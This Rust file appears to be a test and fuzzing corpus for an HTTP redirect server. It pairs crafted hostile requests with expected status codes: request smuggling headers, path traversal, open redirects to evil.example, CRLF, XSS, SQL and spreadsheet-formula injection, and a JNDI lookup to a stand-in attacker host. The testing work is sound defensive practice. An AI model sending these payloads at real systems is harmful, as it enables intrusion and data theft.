//! Requests that strangers send to a port that the whole internet sees, and the answer
//! to each. Fuzzing starts from them, too.

/// A connection's bytes, and the statuses of the answers, in their order.
pub struct Attack {
    pub what: String,
    pub bytes: Vec<u8>,
    pub statuses: Vec<u16>,
}

fn attack(what: impl Into<String>, bytes: impl AsRef<[u8]>, statuses: &[u16]) -> Attack {
    Attack { what: what.into(), bytes: bytes.as_ref().to_vec(), statuses: statuses.to_vec() }
}

/// A request for `target`, byte for byte, at a host whose links have no domain.
fn target(target: impl AsRef<[u8]>) -> Vec<u8> {
    [b"GET ", target.as_ref(), b" HTTP/1.1\r\nHost: localhost\r\n\r\n"].concat()
}

/// A request for a link with such further headers, line ends included.
fn with(headers: impl AsRef<[u8]>) -> Vec<u8> {
    [b"GET /sale HTTP/1.1\r\nHost: localhost\r\n", headers.as_ref(), b"\r\n"].concat()
}

/// A request for a link at such a host.
fn host(host: impl AsRef<[u8]>) -> Vec<u8> {
    [b"GET /sale HTTP/1.1\r\nHost: ", host.as_ref(), b"\r\n\r\n"].concat()
}

/// All of them.
pub fn attacks() -> Vec<Attack> {
    [
        not_http(),
        request_lines(),
        methods(),
        targets(),
        typed(),
        open_redirects(),
        queries(),
        hosts(),
        smuggling(),
        headers(),
        ahead(),
        sizes(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn not_http() -> Vec<Attack> {
    [
        ("nothing", b"".as_slice(), &[][..]),
        ("empty lines", b"\r\n\r\n\r\n", &[]),
        ("a null byte", b"\0", &[]),
        ("a line of null bytes", b"\0\0\0\0\n", &[400]),
        ("TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\n\x00", &[400]),
        ("SSH", b"SSH-2.0-OpenSSH_9.6\r\n", &[400]),
        ("SMTP", b"EHLO h.example\r\n", &[400]),
        ("Redis", b"*1\r\n$4\r\nPING\r\n", &[400]),
        ("RTSP", b"GET /sale RTSP/1.0\r\n\r\n", &[400]),
        ("SIP", b"OPTIONS sip:h SIP/2.0\r\n\r\n", &[400]),
        (
            "the PROXY protocol",
            b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\nGET /sale HTTP/1.1\r\nHost: localhost\r\n\r\n",
            &[400],
        ),
        ("HTTP/2 with prior knowledge", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &[505]),
        ("UTF-8's byte order mark", b"\xef\xbb\xbfGET /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("UTF-16", b"\xff\xfeG\0E\0T\0 \0/\0\r\0\n\0", &[400]),
        ("JSON", b"{\"a\":1}\n", &[400]),
        ("XML", b"<?xml version=\"1.0\"?>\r\n", &[400]),
    ]
    .into_iter()
    .map(|(what, bytes, statuses)| attack(what, bytes, statuses))
    .collect()
}

fn request_lines() -> Vec<Attack> {
    [
        ("GET /sale\r\n\r\n", &[400][..]),
        ("GET /sale HTTP/0.9\r\nHost: localhost\r\n\r\n", &[505]),
        ("GET /sale HTTP/1.2\r\nHost: localhost\r\n\r\n", &[505]),
        ("GET /sale HTTP/2.0\r\nHost: localhost\r\n\r\n", &[505]),
        ("GET /sale HTTP/11\r\nHost: localhost\r\n\r\n", &[400]),
        ("GET /sale HTTP/1.1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("GET /sale http/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("GET /sale HTTP/1.1 \r\nHost: localhost\r\n\r\n", &[400]),
        ("GET  /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("GET\t/sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        (" GET /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("GET /sale\tHTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("G\0T /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("G(T /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        (" /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("GET /sale HTTP/1.1\rHost: localhost\r\n\r\n", &[400]),
        ("GET /sale HTTP/1.1\r\r\nHost: localhost\r\n\r\n", &[400]),
        ("\r\nGET /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[302]),
        ("\r\n\r\nGET /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("\nGET /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("GET /sale HTTP/1.1\nHost: h\n\n", &[400]),
        ("GET /sale HTTP/1.1\nHost: localhost\r\n\r\n", &[400]),
        ("GET /sale HTTP/1.1\r\nHost: h\n\r\n", &[400]),
        ("GET /sale HTTP/1.1\r\nHost: localhost\r\n\n", &[400]),
        ("GET /sale HTTP/1.1\r\nHost: localhost\r\nX: a\n\nGET /evil HTTP/1.1\nHost: b\n\n", &[400]),
        ("get /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[405]),
        ("GETT /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[405]),
        ("POST /sale HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\n\r\nabc", &[405]),
        ("POST /sale HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", &[405]),
        ("PUT /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[405]),
        ("DELETE /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[405]),
        ("TRACE /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[405]),
        ("PROPFIND /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[405]),
        ("OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n", &[405]),
        ("GET * HTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("CONNECT h.example:443 HTTP/1.1\r\nHost: localhost\r\n\r\n", &[400]),
        ("CONNECT /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[405]),
        ("HEAD /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &[302]),
        ("GET /sale HTTP/1.0\r\n\r\n", &[302]),
        ("GET /sale HTTP/1.1\r\n", &[]),
    ]
    .into_iter()
    .map(|(request, statuses)| attack(request, request, statuses))
    .collect()
}

/// Methods, at a link that keeps the method of a request and at others.
fn methods() -> Vec<Attack> {
    let request =
        |method: &str, path: &str, rest: &str| format!("{method} {path} HTTP/1.1\r\nHost: localhost\r\n{rest}");
    let mut attacks = Vec::new();
    for (method, kept) in [
        ("GET", 308),
        ("HEAD", 308),
        ("POST", 308),
        ("PUT", 308),
        ("PATCH", 308),
        ("DELETE", 308),
        ("OPTIONS", 308),
        ("PROPFIND", 308),
        ("BREW", 308),
        ("TRACE", 405),
        ("CONNECT", 405),
    ] {
        attacks.push(attack(format!("{method} /keep"), request(method, "/keep", "\r\n"), &[kept]));
        let expected = if matches!(method, "GET" | "HEAD") { 404 } else { 405 };
        attacks.push(attack(format!("{method} /nothing"), request(method, "/nothing", "\r\n"), &[expected]));
    }
    let next = "GET /sale HTTP/1.1\r\nHost: localhost\r\n\r\n";
    for (what, rest, statuses) in [
        ("with a body", "Content-Length: 3\r\n\r\nabc", &[308][..]),
        ("with a body that never comes", "Content-Length: 1000000000\r\n\r\n", &[308]),
        ("with a chunked body", "Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n", &[308]),
        ("that expects to continue", "Content-Length: 3\r\nExpect: 100-continue\r\n\r\n", &[308]),
        ("with two lengths", "Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd", &[400]),
        ("without a body, and another request", "Content-Length: 0\r\n\r\n", &[308, 302]),
        ("asking ahead", "Sec-Purpose: prefetch\r\n\r\n", &[308, 302]),
    ] {
        let bytes = [request("POST", "/keep", rest).as_bytes(), next.as_bytes()].concat();
        attacks.push(attack(format!("POST /keep {what}"), bytes, statuses));
    }
    for path in ["/healthz", "/robots.txt", "/favicon.ico", "/.well-known/x", "/", "/over", "/sale"] {
        attacks.push(attack(format!("POST {path}"), request("POST", path, "\r\n"), &[405]));
    }
    attacks
}

/// Addresses as people type, copy and scan them, without a domain and on one whose slugs
/// have no case and may end with a slash.
fn typed() -> Vec<Attack> {
    let at = |path: &str, host: &str| format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let mut attacks: Vec<Attack> = [
        ("/sale%20", 302),
        ("/%20sale", 302),
        ("/sale%E2%80%8B", 302),
        ("/%EF%BB%BFsale", 302),
        ("/sa%C2%ADle", 302),
        ("/sale%C2%A0", 302),
        ("/sale%0A", 302),
        ("/sale%0D%0A", 302),
        ("/sa%0D%0A%20%20le", 302),
        ("/sale%E2%80%AE", 302),
        ("/sale%E2%80%A9", 302),
        ("/caf%25C3%25A9", 302),
        ("/cafe%CC%81", 302),
        ("/s%2561le", 302),
        ("/%E2%9D%A4", 302),
        ("/%E2%9D%A4%EF%B8%8F", 302),
        ("/%E2%9D%A4%EF%B8%8E", 302),
        ("/Q/sale", 302),
        ("/sale?QR=1", 302),
        ("/sale%252520", 404),
        ("/sale%252f", 404),
        ("/sale%2F", 404),
        ("/sale//", 404),
        ("/sale.", 404),
        ("/sale)", 404),
        ("/q/sale/", 404),
        ("/%E2%80%8B", 404),
        ("/%20", 404),
        ("/%00sale", 404),
        ("/healthz", 200),
        ("/robots.txt", 200),
        ("/favicon.ico", 404),
        ("/.well-known/assetlinks.json", 404),
        ("/.well-known/../sale", 404),
        ("/apple-app-site-association", 404),
    ]
    .into_iter()
    .map(|(path, status)| attack(format!("typed {path}"), at(path, "localhost"), &[status]))
    .collect();
    // All others lead to the domain's fallback address.
    for path in ["/POSTER", "/poster", "/Poster/", "/Q/POSTER", "/q/poster/", "/POSTER?QR=1", "/poster%20/"] {
        attacks.push(attack(format!("{path} on a domain"), at(path, "GO.ACME.CO"), &[307]));
    }
    for (path, status) in
        [("/poster//", 302), ("/poster%2F", 302), ("/missing", 404), ("/robots.txt", 200), ("/favicon.ico", 404)]
    {
        attacks.push(attack(format!("{path} on a domain"), at(path, "go.acme.co"), &[status]));
    }
    attacks
}

/// Browsers and programs that ask before a person clicks.
fn ahead() -> Vec<Attack> {
    [
        ("Sec-Purpose: prefetch\r\n", 503),
        ("Sec-Purpose: prefetch;prerender\r\n", 503),
        ("Sec-Purpose: PREFETCH;anonymous-client-ip\r\n", 503),
        ("sec-purpose: x\r\nSec-Purpose: prefetch\r\n", 503),
        ("Purpose: prefetch\r\n", 503),
        ("Purpose: prerender\r\n", 503),
        ("X-Purpose: prefetch\r\n", 503),
        ("X-Moz: prefetch\r\n", 503),
        ("X-Moz: prefetch\r\nX-Purpose: preview\r\n", 503),
        ("Purpose: \u{fc}prefetch\r\n", 503),
        ("X-Purpose: preview\r\n", 302),
        ("Purpose: preview\r\n", 302),
        ("Sec-Purpose: navigate\r\n", 302),
        ("Sec-Purpose: pre fetch\r\n", 302),
        ("X-Prefetch: prefetch\r\n", 302),
    ]
    .into_iter()
    .map(|(headers, status)| attack(headers.escape_debug().to_string(), with(headers), &[status]))
    .collect()
}

fn targets() -> Vec<Attack> {
    let texts = [
        ("sale", 400),
        ("?sale", 400),
        ("../sale", 400),
        ("http:/sale", 400),
        ("http:///sale", 400),
        ("http://u:p@h.example/sale", 400),
        ("http://h example/sale", 400),
        ("ftp://h.example/sale", 400),
        ("file:///etc/passwd", 400),
        ("javascript:alert(1)", 400),
        ("http://other.example/sale", 404),
        ("HTTP://localhost:80/sale", 302),
        ("http://go.acme.co/", 302),
        ("/sa le", 400),
        ("/sale\t", 400),
        ("/sale\u{1}", 400),
        ("/sale\0", 400),
        ("/sale\u{7f}", 400),
        ("/sale\u{1b}[31m", 400),
        ("/sale%00", 404),
        ("/sale%0d%0aSet-Cookie:%20a=b", 404),
        ("/sale%", 404),
        ("/sale%zz", 404),
        ("/sale%u0041", 404),
        ("/%ff", 404),
        ("/%c0%af", 404),
        ("/%ed%a0%80", 404),
        ("/%f5%80%80%80", 404),
        ("/s%61le", 302),
        ("/%73%61%6C%65", 302),
        ("/SALE", 404),
        ("/sale/", 404),
        ("/./sale", 404),
        ("/../sale", 404),
        ("/%2e%2e/sale", 404),
        ("/%2fsale", 404),
        ("/a/../sale", 404),
        ("/..%2f..%2fetc%2fpasswd", 404),
        ("/..%5c..%5cwindows", 404),
        ("/sale;jsessionid=1", 404),
        ("/sale.php", 404),
        ("/.env", 404),
        ("/wp-login.php", 404),
        ("/q/sale", 302),
        ("/q/", 404),
        ("/q//sale", 404),
        ("/q/q/sale", 404),
        ("/q/%2e%2e", 404),
        ("/sale#@evil.example", 302),
        ("/sale?#", 302),
        ("/", 404),
        ("/#", 404),
        ("/?", 404),
        ("/'%20OR%201=1--", 404),
        ("/%7B%7B7*7%7D%7D", 404),
        ("/${jndi:ldap://evil.example/a}", 404),
        ("/<script>alert(1)</script>", 404),
        ("/%3Cscript%3E", 404),
        ("/\"onload=\"x", 404),
    ];
    let mut attacks: Vec<Attack> = texts
        .into_iter()
        .map(|(text, status)| attack(text.escape_debug().to_string(), target(text), &[status]))
        .collect();
    attacks.push(attack("a path in raw UTF-8", target("/caf\u{e9}"), &[302]));
    attacks.push(attack("a path in bad UTF-8", target(b"/caf\xe9"), &[400]));
    attacks.push(attack("a path with an overlong slash", target(b"/a\xc0\xafb"), &[400]));
    attacks
}

fn open_redirects() -> Vec<Attack> {
    let nowhere = [
        "//evil.example",
        "///evil.example",
        "//evil.example/%2e%2e",
        "//evil.example/%2f..",
        "/\\evil.example",
        "/\\/evil.example",
        "/%5cevil.example",
        "/%09/evil.example",
        "/%2f%2fevil.example",
        "/https://evil.example",
        "/https:evil.example",
        "/@evil.example",
        "/.evil.example",
        "/;@evil.example",
        "/sale@evil.example",
        "/sale/..//evil.example",
        "/javascript:alert(1)",
        "/\u{ff0f}\u{ff0f}evil.example",
        "/\u{3002}evil.example",
    ];
    let fallback = |path: &str| format!("GET {path} HTTP/1.1\r\nHost: go.acme.co\r\n\r\n");
    let queries = [
        "//evil.example",
        "@evil.example",
        ".evil.example",
        "\\evil.example",
        "/../../evil.example",
        ":80@evil.example",
        "url=https://evil.example",
        "next=javascript:alert(1)",
        "own=https://evil.example",
        "#@evil.example",
        "?@evil.example",
        "%23@evil.example",
        "%3F@evil.example",
        "x=%E5%98%8A%E5%98%8DLocation:%20//evil.example",
    ];
    let pass = |query: &str, link: &str| target(format!("/{link}?{query}"));
    nowhere
        .iter()
        .map(|path| attack(*path, target(path), &[404]))
        .chain(nowhere.iter().map(|path| attack(format!("{path} on a domain with a fallback"), fallback(path), &[302])))
        .chain(queries.iter().map(|query| attack(format!("/bare?{query}"), pass(query, "bare"), &[302])))
        .chain(queries.iter().map(|query| attack(format!("/own?{query}"), pass(query, "own"), &[302])))
        .collect()
}

fn queries() -> Vec<Attack> {
    let mut attacks: Vec<Attack> = [
        ("x=\r", 400),
        ("x=\n", 400),
        ("x=\0", 400),
        ("x=\u{7f}", 400),
        ("x=a b", 400),
        ("x=%0d%0aSet-Cookie:%20a=b", 302),
        ("x=%0D%0A%0D%0A<script>", 302),
        ("x=%00", 302),
        ("x=%", 302),
        ("x=%zz&%", 302),
        ("x=\u{e9}", 302),
        ("x=\u{560a}\u{560d}", 302),
        ("x=\u{2028}\u{2029}", 302),
        ("x=\u{202e}", 302),
        ("x=\"'<>`{}|^\\", 302),
        ("&&&&", 302),
        ("=", 302),
        ("==&=&=", 302),
        ("qr=1&qr=2&qr", 302),
        ("%71r=1", 302),
        ("ch_click_id=clk_forged", 302),
        ("__proto__[x]=1", 302),
        ("x[]=1&x[]=2", 302),
        ("\",\"class\":\"qr\",\"x\":\"", 302),
    ]
    .into_iter()
    .flat_map(|(query, status)| {
        ["sale", "tell"].map(|link| {
            attack(format!("/{link}?{}", query.escape_debug()), target(format!("/{link}?{query}")), &[status])
        })
    })
    .collect();
    attacks.push(attack("a query in bad UTF-8", target(b"/sale?x=\xff\xfe"), &[400]));
    attacks
}

fn hosts() -> Vec<Attack> {
    let long = "a".repeat(10_000);
    let dots = ".".repeat(10_000);
    let mut attacks: Vec<Attack> = [
        ("", 302),
        ("[::1]:8080", 302),
        ("[::1", 404),
        ("localhost:99999999", 302),
        ("LOCALHOST:", 302),
        ("localhost:-1", 404),
        ("localhost.evil.example", 404),
        ("evil.example", 404),
        ("....", 404),
        (&*long, 404),
        (&*dots, 404),
        ("%00", 404),
        ("127.0.0.1:6379", 302),
        ("169.254.169.254", 302),
        ("h, evil.example", 400),
        ("h evil.example", 400),
        ("h/../x", 400),
        ("h?x", 400),
        ("h#x", 400),
        ("u@h", 400),
        ("h\\x", 400),
        ("h\tx", 400),
        ("h\0", 400),
        ("h\u{1}", 400),
        ("http://h", 400),
        ("<script>", 400),
        ("h\"", 400),
        ("b\u{fc}cher.example", 400),
    ]
    .into_iter()
    .map(|(name, status)| {
        attack(format!("Host: {}", name.chars().take(30).collect::<String>().escape_debug()), host(name), &[status])
    })
    .collect();
    attacks.push(attack("a host in bad UTF-8", host(b"\xff\xfe"), &[400]));
    for (request, status) in [
        ("GET /sale HTTP/1.1\r\n\r\n", 400),
        ("GET /sale HTTP/1.1\r\nHost: localhost\r\nHost: localhost\r\n\r\n", 400),
        ("GET /sale HTTP/1.1\r\nHost: localhost\r\nhOST: evil.example\r\n\r\n", 400),
        ("GET /sale HTTP/1.1\r\nHost : h\r\n\r\n", 400),
        ("GET /sale HTTP/1.1\r\n Host: localhost\r\n\r\n", 400),
        ("GET /sale HTTP/1.1\r\nHost: localhost\r\n evil.example\r\n\r\n", 400),
        ("GET / HTTP/1.1\r\nHost: GO.ACME.CO.:8080\r\n\r\n", 302),
        ("GET / HTTP/1.1\r\nHost: go.acme.co:80:80\r\n\r\n", 404),
        ("GET / HTTP/1.1\r\nHost: go.acme.co..\r\n\r\n", 404),
        ("GET / HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-Host: go.acme.co\r\n\r\n", 404),
        ("GET / HTTP/1.1\r\nHost: localhost\r\nForwarded: host=go.acme.co\r\n\r\n", 404),
    ] {
        attacks.push(attack(request, request, &[status]));
    }
    attacks
}

fn smuggling() -> Vec<Attack> {
    let next = "GET /nothing HTTP/1.1\r\nHost: localhost\r\n\r\n";
    let refused = [
        "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
        "Content-Length: 1\r\nContent-Length: 1\r\n",
        "Content-Length: 0\r\nContent-Length: 36\r\n",
        "Content-Length: 5, 5\r\n",
        "Content-Length: -1\r\n",
        "Content-Length: +5\r\n",
        "Content-Length: 0x5\r\n",
        "Content-Length: 5 5\r\n",
        "Content-Length: 1e1\r\n",
        "Content-Length: 5.0\r\n",
        "Content-Length: 99999999999999999999999\r\n",
        "Content-Length:\r\n",
        "Content-Length: \u{661}\r\n",
        "Content-Length : 5\r\n",
        "Content-Length\t: 5\r\n",
        "Content-Length\0: 5\r\n",
        "Transfer-Encoding: xchunked\r\n",
        "Transfer-Encoding: identity\r\n",
        "Transfer-Encoding: gzip, chunked\r\n",
        "Transfer-Encoding: chunked, identity\r\n",
        "Transfer-Encoding: chunked, chunked\r\n",
        "Transfer-Encoding: , chunked\r\n",
        "Transfer-Encoding: \"chunked\"\r\n",
        "Transfer-Encoding: \u{b}chunked\r\n",
        "Transfer-Encoding: chunked\u{0}\r\n",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
        "Transfer-Encoding : chunked\r\n",
        "Transfer-Encoding:\r\n chunked\r\n",
        "X: y\r\n\tTransfer-Encoding: chunked\r\n",
        "X: y\rTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding\r\n: chunked\r\n",
    ];
    let ended = [
        "Content-Length: 36\r\n",
        "Content-Length: 036\r\n",
        "Content-Length:   36  \r\n",
        "Transfer-Encoding: chunked\r\n",
        "TRANSFER-ENCODING: Chunked\r\n",
        "Transfer-Encoding:\tchunked\r\n",
        "Content-Length: 36\r\nExpect: 100-continue\r\n",
        "Content-Length: 36\r\nConnection: keep-alive\r\n",
        "Connection: close\r\n",
        "Connection: keep-alive, close\r\n",
    ];
    let went_on = [
        "Content-Length: 0\r\n",
        "Transfer_Encoding: chunked\r\n",
        "X-Transfer-Encoding: chunked\r\n",
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
        "Connection: Upgrade\r\nUpgrade: websocket\r\n",
        "Connection: Content-Length\r\n",
        "Content-Encoding: gzip\r\n",
        "TE: trailers, chunked\r\n",
    ];
    let followed = |headers: &str| [with(headers), next.into()].concat();
    let mut attacks: Vec<Attack> = Vec::new();
    attacks.extend(refused.map(|headers| attack(headers, followed(headers), &[400])));
    // What follows may be a body, and is not taken for a request.
    attacks.extend(ended.map(|headers| attack(headers, followed(headers), &[302])));
    attacks.extend(went_on.map(|headers| attack(headers, followed(headers), &[302, 404])));
    let plain = with("");
    for (what, bytes, statuses) in [
        ("two at once", [&*plain, next.as_bytes()].concat(), &[302, 404][..]),
        ("five at once", [&*plain; 5].concat(), &[302; 5]),
        ("one and garbage", [&*plain, b"\x01\x02\r\n\r\n"].concat(), &[302, 400]),
        ("one, garbage, and another", [&*plain, b"abc\r\n\r\n", next.as_bytes()].concat(), &[302, 400]),
        ("one and half of another", [&*plain, b"GET /nothing HTT"].concat(), &[302]),
        ("one and a chunk's end", [&*plain, b"0\r\n\r\n"].concat(), &[302, 400]),
        ("a HEAD and a GET", [b"HEAD /sale HTTP/1.1\r\nHost: localhost\r\n\r\n", &*plain].concat(), &[302, 302]),
        ("HTTP/1.0 and another", [b"GET /sale HTTP/1.0\r\n\r\n", next.as_bytes()].concat(), &[302]),
    ] {
        attacks.push(attack(what, bytes, statuses));
    }
    attacks
}

fn headers() -> Vec<Attack> {
    let mut attacks: Vec<Attack> = [
        ("X\r\n", 400),
        (": x\r\n", 400),
        ("X Y: z\r\n", 400),
        ("X(Y): z\r\n", 400),
        ("X\0: z\r\n", 400),
        ("X: a\0b\r\n", 400),
        ("X: a\u{1}b\r\n", 400),
        ("X: a\u{7f}b\r\n", 400),
        ("X: a\rb\r\n", 400),
        ("X: a\r\n b\r\n", 400),
        ("\u{fc}: a\r\n", 400),
        ("X: a\r\r\n", 400),
        ("X:\r\n", 302),
        ("X: a\tb\r\n", 302),
        ("X: \u{fc}\r\n", 302),
        ("X-Original-URL: /nothing\r\nX-Rewrite-URL: /nothing\r\n", 302),
        ("X-HTTP-Method-Override: DELETE\r\n", 302),
        ("User-Agent: \",\"class\":\"qr\",\"x\":\"\r\n", 302),
        ("User-Agent: \\\\u0000\\\",\r\n", 302),
        ("User-Agent: ${jndi:ldap://evil.example/a}\r\n", 302),
        ("User-Agent: \u{1f600}\u{202e}\u{2028}\r\n", 302),
        ("User-Agent: <script>alert(1)</script>\r\n", 302),
        ("User-Agent: a\r\nUser-Agent: b\r\n", 302),
        ("Referer: javascript:alert(1)\r\n", 302),
        ("Referer: =cmd|' /C calc'!A0\r\n", 302),
        ("X-Forwarded-For: 198.51.100.1, 203.0.113.1\r\n", 302),
        ("X-Forwarded-For: ::ffff:127.0.0.1, '; DROP TABLE clicks--\r\n", 302),
        ("Forwarded: for=\"[::1]\";for=127.0.0.1, ;,=\";\r\n", 302),
        ("traceparent: 00-00000000000000000000000000000000-0000000000000000-00\r\n", 302),
        ("traceparent: 00-\"}-x-01\r\n", 302),
        ("Range: bytes=0-18446744073709551615\r\n", 302),
        ("If-None-Match: *\r\n", 302),
        ("Expect: 200-ok\r\n", 302),
        ("Accept-Encoding: gzip;q=1e999, *\r\n", 302),
    ]
    .into_iter()
    .map(|(headers, status)| attack(headers.escape_debug().to_string(), with(headers), &[status]))
    .collect();
    attacks.push(attack("a user agent in bad UTF-8", with(b"User-Agent: \xff\xfe\xc0\x80\xed\xa0\x80\r\n"), &[302]));
    attacks.push(attack("a referer in Latin-1", with(b"Referer: https://a.example/caf\xe9\r\n"), &[302]));
    attacks
}

fn sizes() -> Vec<Attack> {
    let long = |n: usize| "a".repeat(n);
    let pairs = |n: usize| (0..n).map(|i| format!("k{i}=v&")).collect::<String>();
    vec![
        attack("a method without an end", long(40_000), &[414]),
        attack("a path of 16 KiB", target(format!("/{}", long(16_383))), &[404]),
        attack("a path beyond", target(format!("/{}", long(16_384))), &[414]),
        attack("a path of 100 KB", target(format!("/{}", long(100_000))), &[414]),
        attack("a query of 15 KB", target(format!("/sale?x={}", long(15_000))), &[302]),
        attack("a query of 15 KB to encode", target(format!("/sale?x={}", "\u{e9}".repeat(7_500))), &[302]),
        attack("a query of a thousand pairs", target(format!("/own?{}", pairs(1_000))), &[302]),
        attack("a query of 16 K ampersands", target(format!("/own?{}", "&".repeat(16_000))), &[302]),
        attack("a query of 16 K percent signs", target(format!("/own?{}", "%".repeat(16_000))), &[302]),
        attack("a slug that composes", target(format!("/e{}", "%CC%81".repeat(2_000))), &[404]),
        attack("63 headers more", with("A: b\r\n".repeat(63)), &[302]),
        attack("64 headers more", with("A: b\r\n".repeat(64)), &[431]),
        attack("a thousand headers", with("A: b\r\n".repeat(1_000)), &[431]),
        attack("a user agent of 30 KB", with(format!("User-Agent: {}\r\n", long(30_000))), &[302]),
        attack("a cookie beyond the head", with(format!("Cookie: {}\r\n", long(33_000))), &[431]),
        attack("a header's name beyond the head", with(format!("{}: a\r\n", long(33_000))), &[431]),
        attack("a head that ends a little beyond", with(format!("X: {}\r\n", long(32_730))), &[431]),
        attack("a million bytes of a header", with(format!("X: {}\r\n", long(1_000_000))), &[431]),
        attack("ten thousand addresses", with(format!("X-Forwarded-For: {}\r\n", "1.1.1.1,".repeat(3_900))), &[302]),
        attack("as many elements", with(format!("Forwarded: {}\r\n", "for=a;,".repeat(4_400))), &[302]),
        attack(
            "a body of a million bytes",
            [with("Content-Length: 1000000\r\n"), long(200_000).into()].concat(),
            &[302],
        ),
        attack("many empty lines", "\r\n".repeat(20_000), &[431]),
    ]
}
